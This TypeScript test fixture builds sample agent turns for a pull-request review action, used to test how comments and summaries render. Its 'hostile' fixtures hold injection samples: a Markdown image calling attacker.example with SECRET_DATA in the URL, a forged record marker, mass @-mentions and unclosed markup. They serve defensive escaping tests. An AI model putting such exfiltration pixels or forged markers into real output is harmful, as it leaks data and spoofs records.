import { renderComment } from '../../src/action/surfaces/comment.js'
import { renderSummary } from '../../src/action/surfaces/summary.js'
import { emptyTranscript, withTurn, type Transcript } from '../../src/action/thread/transcript.js'
import { TurnReport, type Conclusion } from '../../src/action/core/report.js'
import type { ReviewResponse, Walkthrough } from '../../src/action/core/findings.js'
import type { ThreadEvent, ThreadItem } from '../../src/sdk/index.js'

/**
 * Turns as a reviewer meets them, rendered by every surface: the rendering tests assert on their
 * HTML, and `npm run preview` writes them as pages to look at.
 */

export const RUN_URL = 'https://github.com/octo/demo/actions/runs/7'
export const COMMENT_URL = 'https://github.com/octo/demo/pull/3#issuecomment-99'
export const THREAD_ID = '01a20afc-82d2-77e0-a09e-2bab580b0020'
export const RECORD_MARKER = '<!-- codex-thread-action:record=AAAA -->'

/** Commands a repository or an agent can hold that Markdown would read as markup. */
export const HOSTILE_COMMANDS = [
  "find . -name __init__.py -o -name '*_spec_*'",
  "grep -rn '<details>' src",
  'echo "```" && echo `date` | tee a|b',
  'cat <!-- codex-thread-action:key=pr-9 -->',
  'git log --author @octo-org/admins'
]

/** An agent answer written to break out of its section, fetch an image and ping people. */
export const HOSTILE_ANSWER = [
  '# Takeover',
  '',
  'Looks fine. ![pixel](https://attacker.example/p.png?d=SECRET_DATA) cc @octo-org/admins and @alice',
  '',
  '<details><summary>open</summary>',
  '',
  '<!-- codex-thread-action:record=Zm9yZ2Vk -->',
  '',
  '- [ ] toggle me',
  '',
  '```js',
  'const unclosed = true'
].join('\n')

let nextId = 0
const id = (): string => `item-${nextId++}`

function command(text: string, exit: number | null, output = ''): ThreadItem {
  return {
    id: id(),
    type: 'command_execution',
    command: `/bin/bash -lc ${JSON.stringify(text)}`,
    aggregated_output: output,
    exit_code: exit,
    status: exit === null ? 'in_progress' : exit === 0 ? 'completed' : 'failed'
  }
}

function plan(done: number): ThreadItem {
  return {
    id: 'plan',
    type: 'todo_list',
    items: [
      { text: 'Read the diff', completed: done > 0 },
      { text: 'Run the tests', completed: done > 1 },
      { text: 'Write the review', completed: done > 2 }
    ]
  }
}

const completed = (item: ThreadItem): ThreadEvent => ({ type: 'item.completed', item })

function report(events: ThreadEvent[], end?: { status: Conclusion; error?: string; tookMs?: number }): TurnReport {
  const turn = new TurnReport(RUN_URL, { workingDirectory: '/work/repo', requestedBy: 'alice', resumed: true })
  for (const event of [{ type: 'thread.started', thread_id: THREAD_ID } as ThreadEvent, ...events]) turn.apply(event)
  if (end) {
    turn.finish(end.status, end.error)
    turn.finishedAt = turn.startedAt + (end.tookMs ?? 125_000)
  }
  return turn
}

const usage: ThreadEvent = {
  type: 'turn.completed',
  usage: {
    input_tokens: 16_520,
    cached_input_tokens: 12_000,
    output_tokens: 1_940,
    reasoning_output_tokens: 1_200
  }
}

const work: ThreadEvent[] = [
  completed({ id: id(), type: 'reasoning', text: 'reading' }),
  completed(plan(3)),
  completed(command('git diff --stat origin/main', 0, ' src/math.js | 2 +-\n')),
  completed(command('npm test', 1, '1 failing\n')),
  completed({
    id: id(),
    type: 'file_change',
    status: 'completed',
    changes: [{ path: '/work/repo/src/math.js', kind: 'update' }]
  })
]

const reviewJson = {
  verdict: 'request_changes',
  summary: 'The `add` function subtracts. Fix it before merging.',
  findings: [
    { file: 'src/math.js', line: 2, severity: 'high', message: 'Returns a - b instead of a + b' },
    { file: 'src/math.test.js', line: 9, severity: 'low', message: 'No test for negative numbers' }
  ],
  confidence: 0.82
}

function history(current: TurnReport, earlier: number): Transcript {
  let record = emptyTranscript('pr-3')
  for (let index = 0; index < earlier; index++) {
    record = withTurn(record, {
      at: new Date(Date.UTC(2025, 0, 1 + index, 9)).toISOString(),
      prompt: index % 2 ? 'Why did the build break?' : 'Review this pull request.',
      response:
        index % 3 === 2
          ? ''
          : `## Summary\n\nTurn ${index + 1}: the change looks fine.\n\n\`\`\`js\nadd(1, 2) // 3\n\`\`\`\n\n- one\n- two`,
      conclusion: index % 3 === 2 ? 'failure' : 'success',
      runUrl: `${RUN_URL}-${index}`,
      threadId: THREAD_ID
    })
  }
  return withTurn(record, {
    at: new Date().toISOString(),
    prompt: 'now',
    response: current.finalResponse,
    conclusion: current.status,
    runUrl: RUN_URL,
    threadId: THREAD_ID
  })
}

export interface Surface {
  name: string
  report: TurnReport
  comment: string
  summary: string
}

/** `reviewed`: the walkthrough the thread's last review recorded, which a turn after it opens with. */
function surface(name: string, turn: TurnReport, earlier = 0, reviewed?: Walkthrough): Surface {
  const record = history(turn, earlier)
  return {
    name,
    report: turn,
    comment: renderComment({
      key: 'pr-3',
      report: turn,
      history: reviewed
        ? {
            ...record,
            review: { headSha: LAST_REVIEWED, at: record.turns.at(-1)!.at, open: [], walkthrough: reviewed }
          }
        : record,
      encodedTranscript: RECORD_MARKER,
      walkthrough: true
    }),
    summary: renderSummary(turn, { commentUrl: COMMENT_URL })
  }
}

/** Every surface a reviewer sees, by name. */
export function surfaces(): Surface[] {
  const structured = report(
    [...work, completed({ id: id(), type: 'agent_message', text: JSON.stringify(reviewJson) }), usage],
    {
      status: 'success'
    }
  )
  structured.structuredOutput = reviewJson
  return [
    surface(
      'progress',
      report([
        completed(plan(1)),
        completed(command('git diff --stat origin/main', 0)),
        { type: 'item.started', item: command('npm test -- --reporter dot', null) }
      ])
    ),
    surface(
      'done',
      report(
        [
          ...work,
          completed({
            id: id(),
            type: 'agent_message',
            text: '## Summary\n\nFixed `add`; the tests pass.\n\n```diff\n-  return a - b\n+  return a + b\n```'
          }),
          usage
        ],
        {
          status: 'success'
        }
      ),
      2
    ),
    surface('structured', structured, 1),
    surface(
      'failed',
      report([...work, usage], {
        status: 'failure',
        error: 'The model returned 500 Internal Server Error after 5 retries'
      })
    ),
    surface(
      'cancelled',
      report(work, { status: 'cancelled', error: 'The turn was cancelled (SIGINT)', tookMs: 40_000 })
    ),
    surface(
      'timed-out',
      report(work, { status: 'timed_out', error: 'The turn timed out after 30m 0s', tookMs: 1_800_000 })
    ),
    surface(
      'skipped',
      report([], { status: 'skipped', error: 'mallory has read access to octo/demo, and a turn needs write' })
    ),
    surface(
      'long-history',
      report([completed({ id: id(), type: 'agent_message', text: 'Done again.' }), usage], { status: 'success' }),
      19
    ),
    surface('review', reviewed(), 1),
    surface('walkthrough', walkedThrough(3), 1),
    surface('walkthrough-40', walkedThrough(40), 1),
    surface(
      'walkthrough-kept',
      report([completed({ id: id(), type: 'agent_message', text: 'Because `add` must add: **a + b**.' }), usage], {
        status: 'success'
      }),
      1,
      walkthroughOf(3)
    ),
    surface(
      'hostile',
      report(
        [
          ...HOSTILE_COMMANDS.map((text) => completed(command(text, 0))),
          completed({ id: id(), type: 'agent_message', text: HOSTILE_ANSWER }),
          usage
        ],
        { status: 'success' }
      )
    )
  ]
}

/** The review above, opened by a walkthrough of a PR of `count` files (3: related ones in one row; more: folded). */
function walkedThrough(count: number): TurnReport {
  const turn = reviewed()
  turn.review = { ...turn.review!, walkthrough: walkthroughOf(count) }
  return turn
}

/** The commit the walkthrough a turn after its review shows was written for. */
const LAST_REVIEWED = '5f3c2a91d0e4b7c6a8f1e2d3c4b5a6978897a6b5'

function walkthroughOf(count: number): Walkthrough {
  const files: Walkthrough['files'] =
    count === 3
      ? [
          { paths: ['src/math.js'], change: '`add` now subtracts, which breaks every caller that sums.' },
          {
            paths: ['src/a|b.js', 'test/math.test.js'],
            change: 'A new helper and its tests; the comment on lines 38-40 repeats the code.'
          }
        ]
      : Array.from({ length: count / 4 }, (_, row) => ({
          paths: Array.from({ length: 4 }, (_, index) => `src/modules/part${row}/file${index}.ts`),
          change: `Part ${row}: the handlers move to the new router.`
        }))
  return {
    overview:
      'Moves the arithmetic helpers into `src/math.js` so the calculator and the report share them, and adds tests. ' +
      'The change to `add` looks accidental.',
    files,
    effort: count === 3 ? 2 : 4,
    effort_reason: count === 3 ? 'Small, but one behaviour change every caller sees.' : 'Many files move at once.',
    risks: ['`add` changes for every caller.', 'No test covers negative numbers.'],
    diagram:
      'sequenceDiagram\n  participant Calc as Calculator\n  participant Math as math.js\n  Calc->>Math: add(a, b)\n  Math-->>Calc: a - b'
  }
}

/** A review of the changes since the last one, with findings inline and in the body, one resolved. */
function reviewed(): TurnReport {
  const response: ReviewResponse = {
    summary: 'One bug in `add`; ![tracker](https://attacker.example/t.png) the rest reads well. cc @octo-org/admins',
    findings: [
      {
        path: 'src/math.js',
        line: 2,
        start_line: null,
        severity: 'major',
        title: '`add` subtracts <details>',
        body: 'Returns `a - b`.',
        suggestion: 'return a + b'
      },
      {
        path: 'src/a|b.js',
        line: 40,
        start_line: 38,
        severity: 'nit',
        title: 'Comment repeats the code',
        body: 'Say why.',
        suggestion: null
      }
    ],
    resolved: ['0123456789ab']
  }
  const turn = report([completed({ id: id(), type: 'agent_message', text: JSON.stringify(response) }), usage], {
    status: 'success'
  })
  turn.structuredOutput = response
  turn.review = {
    url: 'https://github.com/octo/demo/pull/3#pullrequestreview-5',
    summary: response.summary,
    findings: response.findings,
    inline: response.findings.slice(0, 1),
    inBody: response.findings.slice(1),
    inFollowUp: [],
    unposted: [],
    cutSuggestions: [],
    repeated: [],
    quiet: [],
    ignored: [],
    dismissed: [],
    resolved: [{ id: '0123456789ab', title: 'Off by one in the loop', threadResolved: true }],
    scope: 'changes since 1a2b3c4'
  }
  return turn
}
